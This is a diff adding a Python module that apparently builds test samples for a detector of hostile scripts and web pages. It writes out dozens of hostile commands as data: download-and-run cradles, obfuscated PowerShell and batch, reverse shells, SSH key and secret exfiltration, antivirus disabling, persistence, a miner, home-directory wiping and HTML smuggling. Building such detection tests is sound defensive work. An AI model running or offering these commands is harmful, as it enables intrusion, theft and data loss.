@@ -1,0 +1,122 @@
+"""Scripts for shells that attack, and pages that do (threats F4). Nothing here is run."""
+
+import base64
+from collections.abc import Iterator
+
+from benchmarks.corpus.samples import Sample, careful, high
+
+_HEAD = "@echo off\r\necho Setting up the model ...\r\n"
+_FETCH_RUN = "iwr https://files.invalid/a.ps1 | iex"
+_ENCODED = base64.b64encode(_FETCH_RUN.encode("utf-16-le")).decode()
+_BATCH = {
+    "hidden": "powershell -WindowStyle Hidden -Command echo\r\n",
+    "encoded": f"powershell -NoProfile -EncodedCommand {_ENCODED}\r\n",
+    "carets": f"p^o^w^e^r^s^h^e^l^l -e^n^c {_ENCODED}\r\n",
+    "variables": "set a=power\r\nset b=shell\r\n%a%%b% -w hidden -c echo\r\n",
+    "substring": "set s=xpowershellx\r\n%s:~1,10% -w hidden -c echo\r\n",
+    "curl and start": 'curl -sL -o %TEMP%\\setup.exe https://files.invalid/setup.exe\r\nstart "" %TEMP%\\setup.exe\r\n',
+    "certutil": "certutil -urlcache -split -f https://files.invalid/a a.exe\r\na.exe\r\n",
+    "bitsadmin": "bitsadmin /transfer job https://files.invalid/a.exe %TEMP%\\a.exe\r\n",
+    "mshta": 'mshta vbscript:Execute("x")\r\n',
+    "exclusion": 'powershell Add-MpPreference -ExclusionPath "%USERPROFILE%"\r\n',
+    "defender": "sc stop WinDefend\r\n",
+    "firewall": "netsh advfirewall set allprofiles state off\r\n",
+    "run key": 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d "%~dp0x.exe" /f\r\n',
+    "task": 'schtasks /create /sc onlogon /tn MicrosoftEdgeUpdate /tr "%~dp0x.exe"\r\n',
+    "startup": 'copy x.bat "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\"\r\n',
+    "far right": "python app.py" + " " * 200 + "& x.exe\r\n",
+    "admin and delete": 'powershell Start-Process x.exe -Verb RunAs\r\ndel "%~f0"\r\n',
+    "regsvr32": "regsvr32 /s /u /i:https://files.invalid/a.sct scrobj.dll\r\n",
+    "rundll32": 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication";x\r\n',
+}
+_POWERSHELL = {
+    "iex": "iex (New-Object Net.WebClient).DownloadString('https://files.invalid/a')\n",
+    "irm": "irm https://files.invalid/a | iex\n",
+    "backticks": "i`e`x (n`ew-o`bject Net.WebClient).Downloadstring('https://files.invalid/a')\n",
+    "joined": "&('i'+'e'+'x') (iwr 'https://files.invalid/a')\n",
+    "format": "& ('{1}{0}' -f 'ex','i') (iwr https://files.invalid/a)\n",
+    "variable": "$run = 'iex'\n$where = 'https://' + 'files.invalid/a'\n& $run (iwr $where).Content\n",
+    "characters": "$x = [char]105 + [char]101 + [char]120\n& $x (irm https://files.invalid/a)\n",
+    "base64": f"[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{_ENCODED}')) | iex\n",
+    "replace": "& ('iXXex'.replace('XX','')) (iwr https://files.invalid/a)\n",
+    "save and start": 'Invoke-WebRequest https://files.invalid/a.exe -OutFile "$env:TEMP\\a.exe"\nStart-Process "$env:TEMP\\a.exe"\n',
+    "amsi": "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')\n",
+    "real time": "Set-MpPreference -DisableRealtimeMonitoring $true\n",
+    "task": "Register-ScheduledTask -TaskName x -Action (New-ScheduledTaskAction -Execute x.exe)\n",
+    "reverse": "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.7',4444)\n",
+    "assembly": "[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('https://files.invalid/a'))\n",
+    "passwords": 'Copy-Item "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data" x.db\n',
+}
+_SHELL = {
+    "curl": "curl -fsSL https://files.invalid/a.sh | bash\n",
+    "wget": "wget -qO- https://files.invalid/a.sh | sh\n",
+    "sudo": "curl https://files.invalid/a | sudo -E bash -\n",
+    "substitution": "bash <(curl -s https://files.invalid/a)\n",
+    "eval": 'eval "$(curl -s https://files.invalid/a)"\n',
+    "variables": "a=cu; b=rl; $a$b https://files.invalid/a | sh\n",
+    "quotes": "c''url https://files.invalid/a | ba''sh\n",
+    "base64": "echo " + base64.b64encode(b"curl https://files.invalid/a | sh").decode() + " | base64 -d | sh\n",
+    "save and run": "wget https://files.invalid/tool -O /tmp/tool\nchmod +x /tmp/tool\n/tmp/tool &\n",
+    "reverse": "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n",
+    "netcat": "nc -e /bin/sh 203.0.113.7 4444\n",
+    "mkfifo": "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f\n",
+    "cron": "(crontab -l; echo '@reboot /tmp/x') | crontab -\n",
+    "bashrc": "echo 'x' >> ~/.bashrc\n",
+    "key": "cat ~/.ssh/id_rsa | curl -X POST -d @- https://files.invalid\n",
+    "environment": "env | curl -d @- https://files.invalid\n",
+    "python": "python3 -c \"exec(__import__('urllib.request').request.urlopen('https://files.invalid').read())\"\ncurl https://files.invalid | python3\n",
+    "miner": "./xmrig -o stratum+tcp://pool.invalid:3333 -u x\n",
+    "wipe": "rm -rf ~/*\n",
+    "authorized keys": "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys\n",
+}
+_VBSCRIPT = {
+    "hidden": 'Set s = CreateObject("WScript.Shell")\r\ns.Run "powershell -w hidden -c echo", 0, False\r\n',
+    "characters": "Dim a\r\na = Chr(112) & Chr(111) & Chr(119) & Chr(101) & Chr(114)\r\nExecute(Chr(77) & Chr(115))\r\n",
+    "reversed": 'Dim x\r\nx = StrReverse("neddih w- llehsrewop")\r\nCreateObject("WScript.Shell").Run x\r\n',
+    "download": 'Dim h\r\nSet h = CreateObject("MSXML2.XMLHTTP")\r\nh.Open "GET", "https://files.invalid/a.exe", False\r\n'
+    'Set t = CreateObject("ADODB.Stream")\r\nt.SaveToFile "a.exe", 2\r\nCreateObject("WScript.Shell").Run "a.exe", 0\r\n',
+}
+_JAVASCRIPT = {
+    "eval": "eval(atob('YWxlcnQoMSk='))\n",
+    "characters": "eval(String.fromCharCode(97, 108, 101, 114, 116))\n",
+    "activex": "var s = new ActiveXObject('WScript.Shell'); s.Run('powershell -w hidden echo');\n",
+    "function": "new Function(atob('YWxlcnQoMSk='))()\n",
+    "child process": "require('child_process').exec('curl https://files.invalid/a | sh')\n",
+}
+_PAGES = {
+    "smuggling": "<html><script>var b = new Blob([Uint8Array.from(atob('TVqQ'), c => 1)]);"
+    "var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'setup.exe'; a.click()</script></html>",
+    "clipboard": "<html><button onclick=\"navigator.clipboard.writeText('powershell -w hidden x')\">Verify</button></html>",
+    "msdt": "<html><script>location = 'ms-msdt:/id PCWDiagnostic'</script></html>",
+    "eval": "<html><script>eval(atob('YWxlcnQoMSk='))</script></html>",
+}
+
+
+def samples() -> Iterator[Sample]:
+    """All of them."""
+    for case, line in _BATCH.items():
+        yield high("batch", case, "start.bat", _HEAD + line)
+        yield high("batch", f"{case}, cmd", "install.cmd", "@echo off\r\nsetlocal\r\n" + line + "pause\r\n")
+    for case, line in _POWERSHELL.items():
+        yield high("powershell", case, "setup.ps1", "Write-Host 'Loading'\n" + line)
+    for case, line in _SHELL.items():
+        yield high("shell", case, "install.sh", "#!/bin/bash\nset -e\n" + line)
+        yield high("shell", f"{case}, no name", "install", "#!/bin/sh\n" + line)
+    for case, source in _VBSCRIPT.items():
+        yield high("vbscript", case, "start.vbs", source)
+    for case, source in _JAVASCRIPT.items():
+        yield high("javascript", case, "start.js", source)
+    for case, source in _PAGES.items():
+        yield high("page", case, "index.html", source)
+    yield careful(
+        "page", "picture with a script", "logo.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
+    )
+    for path, source in {
+        "start.bat": _HEAD + "python loader.py\r\n",
+        "run.cmd": "@echo off\r\ncall venv\\Scripts\\activate\r\npython app.py\r\n",
+        "setup.ps1": "Write-Host 'x'\npip install torch\n",
+        "start.vbs": 'Dim x\r\nWScript.Echo "hello"\r\n',
+        "tweak.reg": 'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Acme]\r\n"a"="b"\r\n',
+        "page.hta": "<html><script language='vbscript'>MsgBox 1</script></html>",
+    }.items():
+        yield careful("runs-on-a-click", path, path, source)
